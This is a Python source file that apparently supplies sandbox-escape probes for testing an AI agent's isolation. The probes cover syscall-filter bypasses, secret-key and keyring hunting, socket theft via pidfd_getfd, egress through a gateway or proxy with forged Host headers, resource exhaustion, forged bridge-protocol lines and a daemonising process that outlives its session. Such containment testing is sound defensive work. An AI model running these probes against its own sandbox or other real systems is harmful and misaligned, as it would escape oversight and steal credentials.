"""Python programs that probes run inside a sandbox, as text: standard library only, for the sandbox's own interpreter. Runs nothing.

Each takes its facts as arguments, exits 0 with a proof if the attack worked, and 77 with the reason if it cannot be tried.
"""

from __future__ import annotations

from ash.isolation.syscalls import NUMBERS

# What is asked of each system call, with arguments that are chosen so that a kernel that takes the call answers "bad address" or
# "invalid": nothing happens, but the call has got through.
_BAD = -1
_CALLS: dict[str, list[tuple[str, tuple[int, ...]]]] = {
    "io_uring": [("io_uring_setup", (1, 0)), ("io_uring_enter", (_BAD, 0, 0, 0, 0, 0)), ("io_uring_register", (_BAD, 0, 0, 0))],
    "keyctl": [("keyctl", (0, -3, 0)), ("add_key", (0, 0, 0, 0, -3)), ("request_key", (0, 0, 0, 0))],
    "bpf": [("bpf", (_BAD, 0, 0))],
    "perf": [("perf_event_open", (0, 0, -1, -1, 0))],
    "userfaultfd": [("userfaultfd", (1,))],
    "mount": [
        ("open_tree", (_BAD, 0, 0)), ("move_mount", (_BAD, 0, _BAD, 0, 0)), ("fsopen", (0, 0)), ("fsconfig", (_BAD, 0, 0, 0, 0)),
        ("fsmount", (_BAD, 0, 0)), ("fspick", (_BAD, 0, 0)), ("mount_setattr", (_BAD, 0, 0, 0, 0)), ("mount", (0, 0, 0, 0, 0)),
        ("umount2", (0, 0)), ("pivot_root", (0, 0)), ("chroot", (0,)),
    ],
    "ptrace": [("ptrace", (1, 999999, 0, 0)), ("process_vm_readv", (1, 0, 0, 0, 0, 0)), ("process_vm_writev", (1, 0, 0, 0, 0, 0))],
    "descriptors": [("pidfd_getfd", (_BAD, 0, 0)), ("kcmp", (1, 1, 99, 0, 0)), ("process_madvise", (_BAD, 0, 0, 0, 0))],
    "modules": [
        ("init_module", (0, 0, 0)), ("finit_module", (_BAD, 0, 0)), ("delete_module", (0, 0)), ("kexec_load", (0, _BAD, 0, _BAD)),
        ("reboot", (0, 0, 0, 0)), ("swapon", (0, 0)), ("swapoff", (0,)), ("settimeofday", (1, 0)), ("sethostname", (0, _BAD)),
        ("acct", (1,)), ("syslog", (99, 0, 0)),
    ],
    "handles": [("open_by_handle_at", (_BAD, 0, 0)), ("fanotify_init", (_BAD, 0))],
    "namespaces": [("setns", (_BAD, 0))],
    "clone3": [("clone3", (0, 0))],
}  # fmt: skip
_X32_GETPID = ("getpid of x32", {"x86_64": 0x40000000 + 39}, ())


def _numbered(calls: list[tuple[str, tuple[int, ...]]]) -> list[tuple[str, dict[str, int], tuple[int, ...]]]:
    return [(name, {machine: known[name] for machine, known in NUMBERS.items() if name in known}, given) for name, given in calls]


CALLS = {group: _numbered(calls) for group, calls in _CALLS.items()} | {"x32": [_X32_GETPID]}
"""By group: name, its number by machine, arguments."""

# Each call in a process of its own: a filter may kill it. EPERM, EACCES and ENOSYS are refusals, whoever says so.
SYSTEM_CALLS = """
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
passed, tried = [], 0
for name, numbers, arguments in eval(sys.argv[1]):
    number = numbers.get(platform.machine())
    if number is None:
        continue
    tried += 1
    pid = os.fork()
    if pid == 0:
        result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(value) for value in arguments])
        os._exit(result == -1 and ctypes.get_errno() in (1, 13, 38))
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0:
        passed.append(name)
if not tried:
    print("there are none on", platform.machine())
    sys.exit(77)
print("not refused:", ", ".join(passed))
sys.exit(not passed)
"""

FAMILIES = """
import socket, sys
families = {"AF_VSOCK": 40, "AF_PACKET": 17, "AF_ALG": 38, "AF_KEY": 15, "AF_CAN": 29, "AF_TIPC": 30, "AF_BLUETOOTH": 31,
            "AF_RDS": 21, "AF_XDP": 44, "AF_NFC": 39, "AF_SMC": 43}
opened = []
for name, number in families.items():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            socket.socket(number, kind).close()
            opened.append(name)
        except OSError:
            pass
print("opened:", ", ".join(dict.fromkeys(opened)))
sys.exit(not opened)
"""

# A pipe is no terminal, so a kernel that is asked says ENOTTY. It looks at 32 bits of the request: a filter that compares 64 is fooled.
TERMINAL = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
reader, writer = os.pipe()
passed = []
for request in (0x5412, 0x5412 | 1 << 32, 0x541C, 0x541C | 1 << 32):
    libc.ioctl(ctypes.c_int(reader), ctypes.c_ulong(request), ctypes.c_long(0))
    if ctypes.get_errno() not in (1, 38):
        passed.append(hex(request))
print("not refused:", ", ".join(passed))
sys.exit(not passed)
"""

# mov eax, 20 (getpid); int 0x80; ret
INT80 = """
import ctypes, mmap, os, platform, sys
if platform.machine() != "x86_64":
    print("only x86-64 has them")
    sys.exit(77)
pid = os.fork()
if pid == 0:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    os._exit(call() != os.getpid())
code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
print("int 0x80 answers")
sys.exit(code != 0)
"""

# Leaves out itself and its own ancestors, whose arguments hold the text that is looked for.
FIND_IN_PROC = """
import os, sys
file, text = sys.argv[1], sys.argv[2].encode()
own, pid = set(), os.getpid()
while pid > 1:
    own.add(pid)
    pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        if pid not in own and text in open(f"/proc/{pid}/{file}", "rb").read():
            print("found in process", pid)
            sys.exit(0)
    except OSError:
        pass
sys.exit(1)
"""

# The two halves of a key, put together here only: no argument of ours holds the whole.
FIND_KEY_TEXT = """
import os, sys
text = (sys.argv[1] + sys.argv[2]).encode()
files = [f"/proc/{pid}/{name}" for pid in filter(str.isdigit, os.listdir("/proc")) for name in ("environ", "cmdline")]
tops = "/workspace", "/home", "/agent", "/run", "/tmp", "/var/tmp", "/opt/ash", "/etc", "/dev/shm", os.path.expanduser("~"), os.getcwd()
for top in tops:
    for folder, _, names in os.walk(top):
        files += [os.path.join(folder, name) for name in names]
for path in files:
    try:
        if (os.path.isfile(path) or path.startswith("/proc/")) and text in open(path, "rb").read(1 << 24):
            print("found in", path)
            sys.exit(0)
    except OSError:
        pass
sys.exit(1)
"""

# keyctl 10 searches the session keyring (-3), 11 reads a key.
SEARCH_KEYRING = """
import ctypes, platform, sys
number = {"x86_64": 250, "aarch64": 219}.get(platform.machine())
if number is None:
    print("no number of keyctl for", platform.machine())
    sys.exit(77)
libc = ctypes.CDLL(None)
key = libc.syscall(number, 10, -3, b"user", sys.argv[1].encode(), 0)
buffer = ctypes.create_string_buffer(64)
if key > 0 and libc.syscall(number, 11, key, buffer, 64) > 0:
    print("read a key")
    sys.exit(0)
sys.exit(1)
"""

# 438 is pidfd_getfd, on every architecture.
TAKE_SOCKETS = """
import ctypes, os, stat, sys
libc = ctypes.CDLL(None)
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"--listen-fd" not in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0"):
            continue
    except OSError:
        continue
    fd = os.pidfd_open(int(pid))
    taken = [libc.syscall(438, fd, number, 0) for number in range(3, 30)]
    if any(own >= 0 and stat.S_ISSOCK(os.fstat(own).st_mode) for own in taken):
        print("took a socket of process", pid)
        sys.exit(0)
sys.exit(1)
"""

_GATEWAY = """
import http.client, socket, sys
class Gateway(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(10)
        self.sock.connect(sys.argv[1])
def ask(method, target, headers, body=None):
    connection = Gateway("localhost")
    connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
    for name, value in headers.items():
        connection.putheader(name, value)
    if body is not None:
        connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body)
    answer = connection.getresponse()
    return answer.status, answer.read(65536)
def tried(*arguments):
    try:
        return ask(*arguments)
    except (OSError, http.client.HTTPException):
        return 0, b""
"""

THROUGH_GATEWAY = (
    _GATEWAY
    + """
for host in sys.argv[3:]:
    place = f"{host}:{sys.argv[2]}"
    for method, target in (("GET", "/"), ("GET", f"http://{place}/"), ("CONNECT", place), ("POST", f"http://{place}/v1/messages")):
        status, body = tried(method, target, {"Host": place, "X-Forwarded-Host": place}, b"{}" if method == "POST" else None)
        if b"canary" in body:
            print(f"{method} {target} with Host {place} reached it")
            sys.exit(0)
sys.exit(1)
"""
)

OTHER_PATHS = (
    _GATEWAY
    + """
passed = []
targets = (
    ("GET", "/v1/models"), ("GET", "/v1/files"), ("POST", "/v1/files"), ("POST", "/v1/messages/batches"), ("GET", "/v1/organizations"),
    ("POST", "/v1/complete"), ("GET", "/v1/messages/../models"), ("GET", "//v1/models"), ("GET", "/v1/%6dodels"),
    ("GET", "/api/sessions"), ("GET", "/api/agents"), ("GET", "/metrics"), ("GET", "/health"),
)
for method, path in targets:
    status, _ = tried(method, path, {"Host": "localhost"}, b"{}" if method == "POST" else None)
    if 200 <= status < 300:
        passed.append(f"{method} {path}")
print("answered:", ", ".join(passed))
sys.exit(not passed)
"""
)

# A provider that sees the caller's own, wrong key says 401; one that sees ours takes the call. Counting tokens is free of charge.
OWN_KEY = (
    _GATEWAY
    + """
body = b'{"model": "default", "messages": [{"role": "user", "content": "x"}]}'
plain = {"Host": "localhost", "content-type": "application/json", "anthropic-version": "2023-06-01"}
status, _ = tried("POST", "/v1/messages/count_tokens", plain, body)
if status != 200:
    print("the provider takes no call at all (status %d)" % status)
    sys.exit(77)
for name, value in (("x-api-key", "sk-ant-stolen"), ("Authorization", "Bearer stolen")):
    status, _ = tried("POST", "/v1/messages/count_tokens", {**plain, name: value}, body)
    if status in (401, 403):
        print(name, "of the caller reached", sys.argv[2])
        sys.exit(0)
sys.exit(1)
"""
)

# Asks the proxy for each place by CONNECT and by an absolute address, with the true Host and a forged one. The proof is the word
# that the place answers with, or any answer where none is given: a refusal of the proxy itself is 4xx or 5xx.
THROUGH_PROXY = """
import os, socket, sys
where, word = sys.argv[1], sys.argv[2].encode()
def talk(*lines):
    try:
        if where.startswith("/"):
            proxy = socket.socket(socket.AF_UNIX)
            proxy.settimeout(10)
            proxy.connect(where)
        else:
            proxy = socket.create_connection((where.rpartition(":")[0], int(where.rpartition(":")[2])), 10)
            proxy.settimeout(10)
        with proxy:
            data = b""
            for line in lines:
                proxy.sendall(line.encode() + b"\\r\\n\\r\\n")
                data += proxy.recv(65536)
                if not data.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")):
                    return b""
            return data + proxy.recv(65536)
    except OSError:
        return b""
for place in sys.argv[3:]:
    for host in (place, "allowed.example"):
        tunnel = (f"CONNECT {place} HTTP/1.1\\r\\nHost: {host}", f"GET / HTTP/1.0\\r\\nHost: {host}")
        for lines in (tunnel, (f"GET http://{place}/ HTTP/1.1\\r\\nHost: {host}",)):
            answer = talk(*lines)
            if answer and word in answer:
                print(lines[0].split("\\r")[0], "with Host", host, "reached it")
                sys.exit(0)
sys.exit(1)
"""

LARGE_FILE = """
import os, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
size = int(sys.argv[1])
with open(".ash-attack", "wb") as file:
    os.unlink(".ash-attack")
    os.ftruncate(file.fileno(), 2 * size)
    os.pwrite(file.fileno(), b"x", size + 4096)
print("a file of", 2 * size, "bytes")
"""

# Argument: the folder, its limit, the largest file allowed. Never takes more than 256 MiB.
FILL = """
import os, shutil, signal, sys, tempfile
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
top, limit, largest = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
wanted = limit + limit // 4 + (1 << 20)
if wanted > 256 << 20:
    found = os.statvfs(top)
    print("a file system of", found.f_blocks * found.f_frsize, "bytes, where", limit, "are allowed")
    sys.exit(found.f_blocks * found.f_frsize <= limit)
folder, done = tempfile.mkdtemp(dir=top), 0
try:
    while done < wanted:
        with open(os.path.join(folder, str(done)), "wb") as file:
            for _ in range(max(1, min(largest // 2, 8 << 20) >> 16)):
                file.write(bytes(65536))
                done += 65536
finally:
    shutil.rmtree(folder)
print("wrote", done, "bytes")
"""

# Argument: how many processes are allowed. The children wait for the end of a pipe, so they go with their parent.
FORK = """
import os, sys
limit = int(sys.argv[1])
if limit > 2000:
    print("more than 2000 processes are allowed: not tried")
    sys.exit(77)
reader, writer = os.pipe()
count = 0
try:
    for _ in range(limit + 20):
        if os.fork() == 0:
            os.close(writer)
            os.read(reader, 1)
            os._exit(0)
        count += 1
except OSError:
    pass
os.close(writer)
for _ in range(count):
    os.wait()
print("started", count, "processes")
sys.exit(count <= limit)
"""

# Each process stays below what one may take alone; together they take twice the limit. Worked if all of it was there at once.
MANY_PROCESSES = """
import os, signal, sys
limit = int(sys.argv[1])
if limit > 512 << 20:
    print("more than 512 MiB are allowed: not tried")
    sys.exit(77)
share, ready, children = 32 << 20, os.pipe(), []
hold = os.pipe()
for _ in range(2 * limit // share):
    pid = os.fork()
    if pid == 0:
        os.close(hold[1])
        memory = bytearray(share)
        for at in range(0, share, 4096):
            memory[at] = 1
        os.write(ready[1], b"x")
        os.read(hold[0], 1)
        os._exit(0)
    children.append(pid)
os.close(ready[1])
got = 0
while got < len(children) and os.read(ready[0], 1):
    got += 1
os.close(hold[1])
for pid in children:
    os.waitpid(pid, 0)
print("took", got * share, "bytes at once")
sys.exit(got * share <= limit)
"""

# Two processes for each percent hundred allowed, for a second and a half.
SPIN = """
import os, sys, time
percent = int(sys.argv[1])
count = min(2 * -(-percent // 100), 8)
if count * 100 < 1.5 * percent or count > 2 * os.cpu_count():
    print("this machine has no more than what is allowed")
    sys.exit(77)
started = time.monotonic()
for _ in range(count):
    if os.fork() == 0:
        while time.monotonic() - started < 1.5:
            pass
        os._exit(0)
for _ in range(count):
    os.wait()
elapsed, used = time.monotonic() - started, sum(os.times()[2:4])
print("took", round(100 * used / elapsed), "% of a processor")
sys.exit(100 * used / elapsed <= 1.4 * percent)
"""

# A quota that is watched needs a moment: each of these goes on for some seconds beyond the limit, by which time it must have been
# noticed. Whoever is killed for it leaves a folder, which the scene takes away.
FILL_DISK = """
import os, shutil, signal, sys, tempfile, time
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
limit, largest = int(sys.argv[1]), int(sys.argv[2])
if limit > 512 << 20:
    print("more than 512 MiB are allowed: not tried")
    sys.exit(77)
folder, done = tempfile.mkdtemp(prefix=".ash-attack-", dir="."), 0
try:
    for round_ in range(40):
        with open(os.path.join(folder, str(round_)), "wb") as file:
            for _ in range(max(1, min(largest // 2, limit // 16) >> 16)):
                file.write(os.urandom(65536))
                done += 65536
            os.fsync(file.fileno())
        if done > limit:
            time.sleep(0.2)
finally:
    shutil.rmtree(folder)
print("wrote", done, "bytes")
sys.exit(done <= limit)
"""

MAKE_FILES = """
import os, shutil, sys, tempfile, time
limit = int(sys.argv[1])
if limit > 20000:
    print("more than 20,000 files are allowed: not tried")
    sys.exit(77)
folder, done = tempfile.mkdtemp(prefix=".ash-attack-", dir="."), 0
try:
    for done in range(limit + 20000):
        os.close(os.open(os.path.join(folder, str(done)), os.O_CREAT | os.O_WRONLY))
        if done > limit and done % 2000 == 0:
            time.sleep(0.3)
finally:
    shutil.rmtree(folder)
print("made", done, "files")
"""

# Lines of the bridge's protocol, to every socket and pipe that this process has or can take. In a session that has run one command
# the bridge has sent `ok` and `exec_result`: the server waits for number 3.
FORGE_LINES = """
import ctypes, json, os, stat, sys
libc, mark = ctypes.CDLL(None), sys.argv[1]
lines = [{"ev": "log", "n": number, "level": "info", "text": mark} for number in range(3, 6)]
data = b"".join(json.dumps(line).encode() + b"\\n" for line in lines)
targets = set(range(3, 256))
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"--listen-fd" not in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0"):
            continue
        targets |= {os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY) for name in os.listdir(f"/proc/{pid}/fd")}
    except OSError:
        pass
    try:
        handle = os.pidfd_open(int(pid))
        targets |= {libc.syscall(438, handle, number, 0) for number in range(3, 40)}
    except OSError:
        pass
for fd in targets - {-1}:
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, data)
    except OSError:
        pass
"""

# Leaves its group, its session and its parents, and writes a number that counts on, for half a minute at most.
OUTLIVE = """
import os, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
null = os.open("/dev/null", os.O_RDWR)
for fd in range(3):
    os.dup2(null, fd)
os.closerange(3, 256)
for count in range(150):
    if os.path.exists("stop"):
        break
    with open("beat", "w") as file:
        file.write(str(count))
    time.sleep(0.2)
"""
